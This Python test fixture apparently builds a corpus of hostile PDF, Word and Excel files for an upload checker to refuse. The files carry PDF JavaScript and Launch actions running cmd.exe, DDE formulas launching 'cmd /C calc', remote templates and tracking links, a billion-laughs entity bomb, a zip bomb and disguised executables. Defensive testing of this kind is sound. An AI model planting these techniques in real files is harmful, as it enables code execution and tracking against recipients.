"""A corpus of hostile files, built in code (fictional content): each is a file the upload check must refuse.

`corpus()` gives every file as a `Hostile`: a short name, the file name a person would pick (which may lie
about the type), the bytes, and words the refusal must contain. The PDFs are written object by object
(`raw_pdf`), and each kind of active PDF content comes twice: as plain objects, and hidden inside a
compressed object stream (PDF 1.5), where a search of the file's bytes cannot see it. The Word files start
from `tests.deid_files.docx_with` and have one hostile part added (`docx_altered`); the spreadsheets are
written part by part (`xlsx_with`).
"""

from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import dataclass

from tests.deid_files import docx_with, zipped

MACROS = "contains macros"
PDF_ACTIVE = "contains JavaScript, actions or embedded files"
EXTERNAL = "links to a template, picture or other file outside it"
EMBEDDED = "contains embedded objects or controls"
DDE = "run other programs (DDE)"
XML_DECLARATIONS = "contains XML entity or DOCTYPE declarations"
NOT_ALLOWED = "must be a PDF, Word"
DAMAGED = "damaged or is not a PDF, Word"
PASSWORD = "protected with a password"
WEB_CODE = "contains web page code"
EXPANDS = "expands to far more than its size"
EMPTY = "is empty"
TOO_BIG = "must be smaller than"


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    data: bytes
    refusal: str  # words the refusal's message contains


# --- PDF, object by object --------------------------------------------------------------------------------

PAGE_TEXT = b"BT /F1 12 Tf 56 780 Td (A fictional review of services for Adult Q.) Tj ET"


def raw_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    extra: list[bytes] | None = None,
    object_stream: bool = False,
    tail: bytes = b"",
) -> bytes:
    """A one-page PDF. `catalog` and `page` are added to those dictionaries; `extra` are objects 6, 7...
    (a `bytes` starting with b"<<" and holding b"stream" is written as a stream object). With
    `object_stream`, every object that is not a stream goes into one compressed object stream, found
    through a cross-reference stream, as PDF 1.5 writers do."""
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        b"<< /Length %d >>\nstream\n" % len(PAGE_TEXT) + PAGE_TEXT + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(extra or []),
    ]
    is_stream = [b"\nstream\n" in body for body in objects]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    if not object_stream:
        for number, body in enumerate(objects, start=1):
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        xref_at = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, len(objects) + 1))
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
        return bytes(out) + tail
    packed = [n for n, streamed in enumerate(is_stream, start=1) if not streamed]
    header, bodies = [], b""
    for number in packed:
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number - 1] + b"\n"
    first = b" ".join(header) + b"\n"
    compressed = zlib.compress(first + bodies)
    stream_number = len(objects) + 1
    xref_number = len(objects) + 2
    for number, body in enumerate(objects, start=1):
        if is_stream[number - 1]:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(packed), len(first), len(compressed))
        + compressed
        + b"\nendstream\nendobj\n"
    )
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    for number in range(1, xref_number + 1):
        if number in packed:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big")
        else:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + bytes(rows)
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out) + tail


LINK = b"<< /Type /Annot /Subtype /Link /Rect [50 700 250 720] /A %s >>"
ATTACHMENT = b"<< /Length 24 >>\nstream\nA fictional attachment.\n\nendstream"

# Each active PDF content, as (name, the raw_pdf arguments).
PDF_ACTIVE_KINDS: list[tuple[str, dict[str, object]]] = [
    (
        "OpenAction JavaScript",
        {"catalog": b"/OpenAction 6 0 R", "extra": [b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]},
    ),
    (
        "JavaScript name tree",
        {
            "catalog": b"/Names << /JavaScript 6 0 R >>",
            "extra": [b"<< /Names [(start) 7 0 R] >>", b"<< /S /JavaScript /JS (this.print\\(\\)) >>"],
        },
    ),
    (
        "JS on a link",
        {"page": b"/Annots [6 0 R]", "extra": [LINK % b"<< /S /JavaScript /JS 7 0 R >>", b"(app.alert\\(2\\))"]},
    ),
    ("Launch", {"catalog": b"/OpenAction 6 0 R", "extra": [b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"]}),
    (
        "AA on a page",
        {"page": b"/AA 6 0 R", "extra": [b"<< /O << /S /URI /URI (https://tracker.example.org/opened) >> >>"]},
    ),
    (
        "EmbeddedFiles name tree",
        {
            "catalog": b"/Names << /EmbeddedFiles 6 0 R >>",
            "extra": [
                b"<< /Names [(notes.txt) 7 0 R] >>",
                b"<< /Type /Filespec /F (notes.txt) /EF << /F 8 0 R >> >>",
                ATTACHMENT,
            ],
        },
    ),
    (
        "EmbeddedFile in an attachment annotation",
        {
            "page": b"/Annots [6 0 R]",
            "extra": [
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 700 70 720] /FS 7 0 R >>",
                b"<< /Type /Filespec /F (run.exe) /EF << /F 8 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 24 >>\nstream\nA fictional attachment.\n\nendstream",
            ],
        },
    ),
    (
        "RichMedia",
        {
            "page": b"/Annots [6 0 R]",
            "extra": [b"<< /Type /Annot /Subtype /RichMedia /Rect [50 500 250 700] /RichMediaContent << >> >>"],
        },
    ),
    (
        "XFA",
        {
            "catalog": b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            "extra": [b"<< /Length 11 >>\nstream\n<xdp:xdp/>\n\nendstream"],
        },
    ),
    (
        "SubmitForm",
        {
            "page": b"/Annots [6 0 R]",
            "extra": [LINK % b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.org/) >> >>"],
        },
    ),
    ("ImportData", {"catalog": b"/OpenAction 6 0 R", "extra": [b"<< /S /ImportData /F (answers.fdf) >>"]}),
    (
        "GoToR to a network share",
        {
            "catalog": b"/OpenAction 6 0 R",
            "extra": [b"<< /S /GoToR /F (\\\\\\\\fileserver\\\\share\\\\x.pdf) /D [0 /Fit] >>"],
        },
    ),
    (
        "URI to file://",
        {"page": b"/Annots [6 0 R]", "extra": [LINK % b"<< /S /URI /URI (file://fileserver/share/report.pdf) >>"]},
    ),
]


def _pdf_corpus() -> list[Hostile]:
    files = []
    for name, arguments in PDF_ACTIVE_KINDS:
        for hidden in (False, True):
            data = raw_pdf(object_stream=hidden, **arguments)  # type: ignore[arg-type]
            label = f"PDF {name}" + (" (in an object stream)" if hidden else "")
            files.append(Hostile(label, "review.pdf", data, PDF_ACTIVE))
    files.append(Hostile("PDF encrypted", "locked.pdf", encrypted_pdf(), PASSWORD))
    files.append(
        Hostile(
            "PDF header, then a web page", "polyglot.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", WEB_CODE
        )
    )
    files.append(
        Hostile(
            "PDF with a web page after it",
            "polyglot.pdf",
            raw_pdf(tail=b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"),
            WEB_CODE,
        )
    )
    # No cross-reference table (every PDF writer makes one): its objects cannot be checked one by one, so it
    # is refused as damaged, even though nothing hostile shows in its bytes.
    files.append(
        Hostile(
            "PDF with no cross-reference table",
            "handmade.pdf",
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n",
            DAMAGED,
        )
    )
    return files


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(raw_pdf())))
    writer.encrypt(user_password="fictional", owner_password="fictional-owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- Word ---------------------------------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # a compound file, as VBA projects and OLE objects are


def _unzipped(data: bytes) -> dict[str, str | bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def _relationship(rid: str, kind: str, target: str, *, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    kind = kind if kind.startswith("http") else f"{REL}/{kind}"
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def docx_altered(
    *,
    body: str = "",
    relationships: list[bytes] | None = None,
    content_types: str = "",
    parts: dict[str, bytes] | None = None,
    document: bytes | None = None,
) -> bytes:
    """A clean DOCX from `docx_with`, with `body` (WordprocessingML) added to the body, `relationships` to
    the main part's, `content_types` (Default/Override elements) to [Content_Types].xml, and `parts` added
    (a part named "…rels" replaces one). `document` replaces word/document.xml outright."""
    files = _unzipped(docx_with({}))
    main = files["word/document.xml"]
    assert isinstance(main, bytes)
    files["word/document.xml"] = (
        document if document is not None else main.replace(b"<w:body>", b"<w:body>" + body.encode())
    )
    rels = files["word/_rels/document.xml.rels"]
    assert isinstance(rels, bytes)
    files["word/_rels/document.xml.rels"] = rels.replace(
        b"</Relationships>", b"".join(relationships or []) + b"</Relationships>"
    )
    types = files["[Content_Types].xml"]
    assert isinstance(types, bytes)
    files["[Content_Types].xml"] = types.replace(b"</Types>", content_types.encode() + b"</Types>")
    files.update(parts or {})
    return zipped(files)


def _rels_part(*relationships: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + b"".join(relationships)
        + b"</Relationships>"
    )


def _external_image(target: str) -> bytes:
    blip = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="95250" cy="95250"/><wp:docPr id="1" name="Logo"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="1" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        '<a:blip r:link="rIdRemote"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    return docx_altered(body=blip, relationships=[_relationship("rIdRemote", "image", target, external=True)])


OLE_OBJECT = (
    '<w:p><w:r><w:object w:dxaOrig="1520" w:dyaOrig="960"><o:OLEObject Type="Embed" ProgID="Package" '
    'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
)
WORD_SETTINGS = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<w:attachedTemplate r:id="rIdTemplate"/></w:settings>'
)
SETTINGS_TYPE = (
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "Adult Q was known to four agencies.">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b"<w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
)


def _docx_corpus() -> list[Hostile]:
    vba_type = "application/vnd.ms-office.vbaProject"
    return [
        Hostile(
            "DOCX VBA project renamed, with its relationship",
            "report.docx",
            docx_altered(
                relationships=[
                    _relationship(
                        "rIdVba",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "media/image9.png",
                    )
                ],
                parts={"word/media/image9.png": OLE_HEADER},
            ),
            MACROS,
        ),
        Hostile(
            "DOCX VBA project renamed, with its content type",
            "report.docx",
            docx_altered(
                content_types=f'<Override PartName="/word/styles2.xml" ContentType="{vba_type}"/>',
                parts={"word/styles2.xml": b"<x/>"},
            ),
            MACROS,
        ),
        Hostile(
            "DOCX VBA project as a default content type",
            "report.docx",
            docx_altered(
                content_types=f'<Default Extension="dat" ContentType="{vba_type}"/>',
                parts={"word/theme.dat": b"\x00" * 64},
            ),
            MACROS,
        ),
        Hostile(
            "DOCX compound-file part under an image's name",
            "report.docx",
            docx_altered(parts={"word/media/image3.jpeg": OLE_HEADER}),
            MACROS,
        ),
        Hostile(
            "DOCX macro-enabled content type",
            "report.docx",
            docx_altered(
                content_types='<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
                parts={"word/vbaData.xml": b"<x/>"},
            ),
            MACROS,
        ),
        Hostile(
            "DOCX remote template",
            "report.docx",
            docx_altered(
                relationships=[_relationship("rIdSettings", "settings", "settings.xml")],
                content_types=SETTINGS_TYPE,
                parts={
                    "word/settings.xml": WORD_SETTINGS,
                    "word/_rels/settings.xml.rels": _rels_part(
                        _relationship(
                            "rIdTemplate",
                            "attachedTemplate",
                            "https://templates.example.org/review.dotm",
                            external=True,
                        )
                    ),
                },
            ),
            EXTERNAL,
        ),
        Hostile(
            "DOCX image linked from file://",
            "report.docx",
            _external_image("file://fileserver/share/logo.png"),
            EXTERNAL,
        ),
        Hostile(
            "DOCX image linked from a network share",
            "report.docx",
            _external_image("\\\\fileserver\\share\\logo.png"),
            EXTERNAL,
        ),
        Hostile(
            "DOCX image linked from the web",
            "report.docx",
            _external_image("http://tracker.example.org/pixel.png"),
            EXTERNAL,
        ),
        Hostile(
            "DOCX OLE object",
            "report.docx",
            docx_altered(
                body=OLE_OBJECT,
                relationships=[_relationship("rIdOle", "oleObject", "embeddings/oleObject1.bin")],
                content_types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
                parts={"word/embeddings/oleObject1.bin": OLE_HEADER},
            ),
            EMBEDDED,
        ),
        Hostile("DOCX OLE object element alone", "report.docx", docx_altered(body=OLE_OBJECT), EMBEDDED),
        Hostile(
            "DOCX altChunk",
            "report.docx",
            docx_altered(
                body='<w:altChunk r:id="rIdChunk"/>',
                relationships=[_relationship("rIdChunk", "aFChunk", "chunk.html")],
                content_types='<Override PartName="/word/chunk.html" ContentType="text/html"/>',
                parts={"word/chunk.html": b"<html><body><script>alert(1)</script></body></html>"},
            ),
            EMBEDDED,
        ),
        Hostile(
            "DOCX subDocument on a share",
            "report.docx",
            docx_altered(
                body='<w:p><w:subDoc r:id="rIdSub"/></w:p>',
                relationships=[
                    _relationship("rIdSub", "subDocument", "file://fileserver/share/part2.docx", external=True)
                ],
            ),
            EXTERNAL,
        ),
        Hostile(
            "DOCX frame with an external target",
            "report.docx",
            docx_altered(
                relationships=[
                    _relationship("rIdFrame", "frame", "https://frames.example.org/page.html", external=True)
                ]
            ),
            EXTERNAL,
        ),
        Hostile(
            "DOCX ActiveX control",
            "report.docx",
            docx_altered(
                body='<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1"/></w:object></w:r></w:p>',
                relationships=[_relationship("rIdAx", "control", "activeX/activeX1.xml")],
                content_types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
                parts={
                    "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
                },
            ),
            EMBEDDED,
        ),
        Hostile(
            "DOCX DDEAUTO field",
            "report.docx",
            docx_with({"field code": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'}),
            DDE,
        ),
        Hostile("DOCX billion laughs", "report.docx", docx_altered(document=BILLION_LAUGHS), XML_DECLARATIONS),
        Hostile(
            "DOCX zip bomb",
            "report.docx",
            docx_altered(parts={"word/padding.xml": b"\x00" * (30 * 1024 * 1024)}),
            EXPANDS,
        ),
    ]


# --- Excel ------------------------------------------------------------------------------------------------

SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def xlsx_with(
    *,
    cell: str = '<c r="A1" t="inlineStr"><is><t>Action plan</t></is></c>',
    workbook_extra: str = "",
    main_type: str = XLSX_MAIN,
    relationships: list[bytes] | None = None,
    content_types: str = "",
    parts: dict[str, bytes] | None = None,
) -> bytes:
    """A one-sheet XLSX written part by part, with `cell` in row 1 and the additions named as in `docx_altered`."""
    ct = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        f"{content_types}</Types>"
    )
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": ct,
        "_rels/.rels": _rels_part(_relationship("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{SHEET_NS}" xmlns:r="{REL}"><sheets>'
            f'<sheet name="Actions" sheetId="1" r:id="rId1"/></sheets>{workbook_extra}</workbook>'
        ),
        "xl/_rels/workbook.xml.rels": _rels_part(
            _relationship("rId1", "worksheet", "worksheets/sheet1.xml"), *(relationships or [])
        ),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}"><sheetData><row r="1">{cell}</row>'
            "</sheetData></worksheet>"
        ),
    }
    files.update(parts or {})
    return zipped(files)


def _xlsx_corpus() -> list[Hostile]:
    return [
        Hostile(
            "XLSX DDE formula (cmd|)",
            "actions.xlsx",
            xlsx_with(cell="<c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"),
            DDE,
        ),
        Hostile(
            "XLSX DDE function",
            "actions.xlsx",
            xlsx_with(cell='<c r="A1"><f>DDE("cmd","/C calc","__DdeLink_60_870516294")</f></c>'),
            DDE,
        ),
        Hostile(
            "XLSX DDEAUTO formula", "actions.xlsx", xlsx_with(cell='<c r="A1"><f>DDEAUTO("cmd","/C calc")</f></c>'), DDE
        ),
        Hostile(
            "XLSX DDE in a defined name",
            "actions.xlsx",
            xlsx_with(
                workbook_extra="<definedNames><definedName name=\"Go\">msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''</definedName></definedNames>"
            ),
            DDE,
        ),
        Hostile(
            "XLSX external link part",
            "actions.xlsx",
            xlsx_with(
                relationships=[_relationship("rId9", "externalLink", "externalLinks/externalLink1.xml")],
                content_types='<Override PartName="/xl/externalLinks/externalLink1.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
                parts={
                    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET_NS}"><externalBook/></externalLink>'.encode(),
                    "xl/externalLinks/_rels/externalLink1.xml.rels": _rels_part(
                        _relationship("rId1", "externalLinkPath", "file://fileserver/share/budget.xlsx", external=True)
                    ),
                },
            ),
            EXTERNAL,
        ),
        Hostile(
            "XLSX external link renamed",
            "actions.xlsx",
            xlsx_with(
                relationships=[_relationship("rId9", "externalLink", "styles2.xml")],
                parts={
                    "xl/styles2.xml": f'<externalLink xmlns="{SHEET_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
                },
            ),
            EXTERNAL,
        ),
        Hostile(
            "XLSX macro-enabled",
            "actions.xlsx",
            xlsx_with(main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            MACROS,
        ),
    ]


# --- Types that lie, and other tricks ---------------------------------------------------------------------


def _other_corpus() -> list[Hostile]:
    plain_zip = zipped({"readme.txt": "A fictional note."})
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    return [
        Hostile(
            "EXE named .pdf",
            "minutes.pdf",
            b"MZ\x90\x00\x03" + b"\x00" * 200 + b"This program cannot be run in DOS mode",
            NOT_ALLOWED,
        ),
        Hostile("EXE named .docx", "minutes.docx", b"MZ\x90\x00\x03" + b"\x00" * 200, NOT_ALLOWED),
        Hostile("ZIP named .docx", "minutes.docx", plain_zip, NOT_ALLOWED),
        Hostile(
            "HTML named .pdf", "minutes.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", NOT_ALLOWED
        ),
        Hostile("SVG with script named .docx", "minutes.docx", svg, NOT_ALLOWED),
        Hostile(
            "PNG with a web page inside",
            "photo.png",
            b"\x89PNG\r\n\x1a\n" + b"\x00" * 32 + b"<html><script>alert(1)</script>",
            WEB_CODE,
        ),
        Hostile("empty file", "empty.pdf", b"", EMPTY),
    ]


def corpus() -> list[Hostile]:
    """Every hostile file (the oversize one is made by its test, with a small limit set)."""
    return [*_pdf_corpus(), *_docx_corpus(), *_xlsx_corpus(), *_other_corpus()]
